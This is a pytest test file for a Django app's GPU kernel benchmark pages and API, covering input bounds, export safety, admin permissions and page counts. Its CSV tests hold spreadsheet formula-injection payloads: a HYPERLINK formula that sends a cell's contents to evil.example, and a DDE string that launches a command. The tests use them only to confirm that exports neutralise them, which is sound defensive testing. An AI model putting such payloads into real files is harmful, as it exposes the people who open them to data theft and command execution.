"""Edges of the kernels pages and API: the what-if's speedup range and unfinished sweeps, CSV
exports a spreadsheet opens as data, admin deletions, repeated parameters, a kernel config
handed to a role without GPUs, the chart's shapes and the job page's build and measurement
counts."""
import copy
import csv
import html
import io
import math

import pytest
from django.contrib.auth.models import User
from django.test import Client

from benchmarks.models import BenchmarkRun, BenchmarkSweep
from controlplane.csvsafe import csv_cell, csv_text
from kernels.models import KernelBenchmark, KernelBest, KernelJob, KernelPackage
from kernels.whatif import SPEEDUP_RANGE, range_refusal



def _page(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


# --- what-if: the speedup's lower bound ---------------------------------------------------------


@pytest.mark.parametrize("share,speedup", [(1, "1e-320"), (0.9, "1e-308"), (1, "1e-300"), (0.63, "0.0009")])
def test_a_speedup_below_a_thousandth_is_refused_by_the_api_and_the_page(viewer_api, viewer, seed_pd_sweep,
                                                                         share, speedup):
    resp = viewer_api.get("/api/kernel-whatif/", {"sweep": seed_pd_sweep.pk, "share": share, "speedup": speedup})
    assert resp.status_code == 400 and resp.json() == {"speedup": [range_refusal("speedup", speedup)]}
    body = _page(viewer).get("/kernels/whatif/", {"sweep": seed_pd_sweep.pk, "share": share,
                                                  "speedup": speedup}).content.decode()
    assert html.escape(f"{SPEEDUP_RANGE}, got {speedup}") in body and "Output, measured → projected (tok/s)" not in body
    assert "Decode step factor" not in body


def test_a_thousandth_is_the_slowest_speedup_projected_and_its_numbers_are_finite(viewer_api, seed_pd_sweep):
    assert SPEEDUP_RANGE.startswith("must be a number in [0.001, 1000]:")
    resp = viewer_api.get("/api/kernel-whatif/", {"sweep": seed_pd_sweep.pk, "share": 1, "speedup": "0.001"})
    assert resp.status_code == 200
    body = resp.json()
    assert body["factor"] == pytest.approx(1000.0)
    row = body["lengths"]["256/256"][0]
    assert math.isfinite(row["projected_tpot_ms"]) and row["projected_tpot_ms"] == pytest.approx(94.0 * 1000)


# --- what-if: a sweep that has not finished -----------------------------------------------------


def test_a_sweep_still_running_is_refused_with_how_far_it_got(viewer_api, viewer, seed_pd_sweep):
    BenchmarkSweep.objects.filter(pk=seed_pd_sweep.pk).update(status="running", points_done=1, points_total=5)
    message = f"sweep #{seed_pd_sweep.pk} has not finished (running, 1 of 5 points done): project it once it is done"
    resp = viewer_api.get("/api/kernel-whatif/", {"sweep": seed_pd_sweep.pk, "speedup": 2})
    assert resp.status_code == 400 and resp.json() == {"sweep": [message]}
    body = _page(viewer).get("/kernels/whatif/", {"sweep": seed_pd_sweep.pk, "speedup": 2}).content.decode()
    assert html.escape(message) in body and "Output, measured → projected (tok/s)" not in body
    # once it is done, the same query projects it
    BenchmarkSweep.objects.filter(pk=seed_pd_sweep.pk).update(status="done", points_done=5)
    assert viewer_api.get("/api/kernel-whatif/", {"sweep": seed_pd_sweep.pk, "speedup": 2}).status_code == 200


# --- CSV exports --------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_csv_cell_quotes_what_a_spreadsheet_reads_as_a_formula_and_keeps_numbers():
    for text in (EVIL, "+1+2", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5 and csv_cell(0) == 0 and csv_cell(True) == "true" and csv_cell(False) == "false"
    assert csv_cell(None) == "" and csv_cell("split_k") == "split_k" and csv_cell("a=b") == "a=b"
    assert csv_text([{"a": -1.5, "b": "-x"}], ["a", "b"]) == "a,b\n-1.5,'-x\n"


def test_the_kernel_job_csv_export_neutralises_formulas_and_keeps_negative_numbers(viewer_api, viewer,
                                                                                   measured_job):
    bench = KernelBenchmark.objects.filter(variant__job=measured_job, correct=False).get()
    KernelBenchmark.objects.filter(pk=bench.pk).update(error=EVIL, max_abs_err=-0.5)
    for resp in (viewer_api.get(f"/api/kernel-jobs/{measured_job.pk}/export/", {"format": "csv"}),
                 _page(viewer).get(f"/kernels/jobs/{measured_job.pk}/export.csv")):
        assert resp.status_code == 200
        row = next(r for r in _rows(resp.content) if r["correct"] == "false")
        assert row["error"] == "'" + EVIL and row["max_abs_err"] == "-0.5"
        assert float(next(r for r in _rows(resp.content) if r["correct"] == "true")["median_us"]) > 0


def test_the_benchmark_run_and_sweep_csv_exports_neutralise_formulas(viewer_api, seed_pd_sweep):
    run = BenchmarkRun.objects.get(sweep=seed_pd_sweep)
    BenchmarkRun.objects.filter(pk=run.pk).update(served_model_name="@SUM(1+1)*cmd|' /C calc'!A0")
    for url in (f"/api/runs/{run.pk}/export/", f"/api/sweeps/{seed_pd_sweep.pk}/export/"):
        resp = viewer_api.get(url, {"format": "csv"})
        assert resp.status_code == 200
        (row,) = _rows(resp.content)
        assert row["served_model_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["output_throughput_tok_s"] == "9.95" and row["concurrency"] == "1"


# --- admin cannot delete kernel rows ------------------------------------------------------------


@pytest.fixture
def superuser(db):
    return User.objects.create_superuser("root", "root@example.org", "correct-horse-battery")


def test_admin_cannot_delete_kernel_packages_or_best_variants(admin_user, superuser, measured_job):
    best = KernelBest.objects.filter(job=measured_job).first()
    package = measured_job.package
    for user in (admin_user, superuser):
        c = _page(user)
        for model, pk in (("kernelpackage", package.pk), ("kernelbest", best.pk), ("kerneljob", measured_job.pk)):
            assert c.get(f"/admin/kernels/{model}/{pk}/change/").status_code == 200, model   # still readable
            assert c.get(f"/admin/kernels/{model}/{pk}/delete/").status_code == 403, model
            assert c.post(f"/admin/kernels/{model}/{pk}/delete/", {"post": "yes"}).status_code == 403, model
            changelist = c.get(f"/admin/kernels/{model}/").content.decode()
            assert "delete_selected" not in changelist, model
            c.post(f"/admin/kernels/{model}/", {"action": "delete_selected", "_selected_action": [pk], "post": "yes"})
    assert KernelPackage.objects.filter(pk=package.pk).exists() and KernelBest.objects.filter(pk=best.pk).exists()
    assert KernelJob.objects.filter(pk=measured_job.pk).exists()
    # read-only pages offer no Save button, and the package's history stays readable
    c = _page(superuser)
    page = c.get(f"/admin/kernels/kernelpackage/{package.pk}/change/").content.decode()
    assert 'name="_save"' not in page
    assert c.get(f"/admin/kernels/kernelpackage/{package.pk}/history/").status_code == 200
    assert c.post(f"/admin/kernels/kernelpackage/{package.pk}/change/", {"title": "x"}).status_code == 403


# --- a parameter given twice ---------------------------------------------------------------------


def test_the_job_form_refuses_a_parameter_named_twice(operator, toy_package, h200_node):
    c = _page(operator)
    resp = c.post("/kernels/packages/toy_attn/jobs/new/", {"node": "h200-box", "params": "impl=baseline; impl=tiled"})
    assert resp.status_code == 400 and not KernelJob.objects.exists()
    assert (html.escape("'impl' is named 2 times: name it once, with its values comma-separated "
                        "(impl=baseline,tiled)") in resp.content.decode())
    resp = c.post("/kernels/packages/toy_attn/jobs/new/",
                  {"node": "h200-box", "params": '{"BLOCK": [32], "impl": ["baseline"], "BLOCK": [64]}'})
    assert resp.status_code == 400 and not KernelJob.objects.exists()
    # the API's rule for a key given twice in a JSON object (controlplane.drf_defaults.SafeJSONParser)
    assert html.escape('params.BLOCK is given 2 times ([32], [64]): give it once, with all its values in one list '
                       '({"BLOCK": [v1, v2]})') in resp.content.decode()


def test_the_variant_table_refuses_a_filter_given_twice(viewer_api, viewer, measured_job):
    url = f"/api/kernel-jobs/{measured_job.pk}/variants/"
    resp = viewer_api.get(url + "?p.BLOCK=32&p.BLOCK=64")
    # the API's one rule for a repeated query parameter (controlplane.drf_defaults.SingleValuedQuery)
    assert resp.status_code == 400 and resp.json() == {"p.BLOCK": ["is given 2 times (32, 64): give it once"]}
    message = "p.BLOCK is given 2 times (32, 64): the table filters on one value per parameter, give it once"
    one = viewer_api.get(url + "?p.BLOCK=32")
    assert one.status_code == 200 and {r["params"]["BLOCK"] for r in one.json()["rows"]} == {32}
    # the page says so above the table and filters on neither value
    body = _page(viewer).get(f"/kernels/jobs/{measured_job.pk}/variants/?p.BLOCK=32&p.BLOCK=64").content.decode()
    assert html.escape(message) in body and ">64<" in body and ">16<" in body


# --- a kernel config for a role without GPUs ----------------------------------------------------


def test_a_kernel_config_for_a_role_without_gpus_is_a_plan_warning(measured_job):
    from deployments.examples import example_recipe, local_node_facts_example
    from deployments.launch import launch_plan_render

    best = KernelBest.objects.get(job=measured_job, shape="small", batch=1)
    recipe = example_recipe("local-llamacpp")
    spec = copy.deepcopy(recipe["spec"])
    spec["model"] = {"path": "/models/tiny-random.gguf"}   # under a model root whatever VAR_DIR the test has
    spec["kernels"] = [{"package": "toy_attn", "config": best.pk}]
    plan = launch_plan_render(engine="llamacpp", topology="single", spec=spec, node=local_node_facts_example())
    assert plan.process("single").env["CEILING_TOY_ATTN_CONFIG"] == best.config_path
    assert ("kernel toy_attn: single has no GPU (no gpus in the role), yet CEILING_TOY_ATTN_CONFIG is set for it: "
            "a GPU kernel's config does nothing for an engine on the CPU; list only roles with GPUs in the "
            "reference's roles") in plan.warnings
    # a sim recipe takes no GPU by design: its profile stands for them (and has its own warning)
    sim = copy.deepcopy(example_recipe("local-sim-pd")["spec"])
    sim["kernels"] = [{"package": "toy_attn", "config": best.pk}]
    plan = launch_plan_render(engine="sim", topology="pd", spec=sim, node=local_node_facts_example())
    assert not [w for w in plan.warnings if "no GPU" in w]


# --- the chart's shapes -------------------------------------------------------------------------


def test_the_chart_lists_and_accepts_only_the_jobs_shapes(viewer_api, toy_package, h200_node):
    from kernels.services import kernel_job_create

    job = kernel_job_create(package=toy_package, node=h200_node, shapes=["small"], dispatch=False)
    url = f"/api/kernel-jobs/{job.pk}/chart/"
    resp = viewer_api.get(url)
    assert resp.status_code == 400 and resp.json() == {"shape": ["is required (one of this job's shapes: small)"]}
    resp = viewer_api.get(url, {"shape": "wide"})   # the package's, not the job's
    assert resp.status_code == 400 and resp.json() == {"shape": ["'wide' is not a shape of this job (its shapes: small)"]}
    assert viewer_api.get(url, {"shape": "small"}).status_code == 200


# --- the job page's counts, and the form's errors once -------------------------------------------


def _facts(body: str, field: str) -> str:
    return body.split(f'data-f="{field}">', 1)[1].split("</dd>", 1)[0]


def test_the_job_page_counts_kept_and_discarded_builds_apart(viewer, measured_job):
    body = html.unescape(_page(viewer).get(f"/kernels/jobs/{measured_job.pk}/").content.decode())
    # 7 variants: 6 built, of which 1 discarded for spilling; 1 failed to build
    assert _facts(body, "builds") == ("6 builds: 5 kept, 1 discarded (register spills or more shared memory than "
                                      "the target has: never benchmarked); 1 failed to build; 7 variants in all")
    assert _facts(body, "benchmarks") == ("13 (variant, shape, batch): 12 correct, 1 wrong (failed the check "
                                          "against the reference, so not timed)")


def test_a_builds_only_job_says_why_it_has_no_measurement(viewer, toy_package, cpu_node):
    from kernels.services import NO_GPU_NOTE, kernel_builds_store, kernel_job_create

    from .conftest import build_fact

    job = kernel_job_create(package=toy_package, node=cpu_node, cc="9.0", dispatch=False)
    kernel_builds_store(job_id=job.pk, payload=[build_fact(v.pk) for v in job.variants.all()])
    KernelJob.objects.filter(pk=job.pk).update(status="done", note=NO_GPU_NOTE.format(node="cpu-box"))
    body = html.unescape(_page(viewer).get(f"/kernels/jobs/{job.pk}/").content.decode())
    assert _facts(body, "benchmarks") == ("none: not benchmarked, no GPU of compute capability 9.0 on node cpu-box "
                                          "(builds only)")
    assert "never timed" not in body


def test_the_job_forms_errors_are_listed_once(operator, toy_package, h200_node):
    body = _page(operator).post("/kernels/packages/toy_attn/jobs/new/",
                                {"node": "h200-box", "params": "BLOCK=48"}).content.decode()
    assert body.count('class="path-errors"') == 1 and body.count("48 is not one of the grid&#x27;s values") == 1
    assert 'href="#job-form-errors"' in body
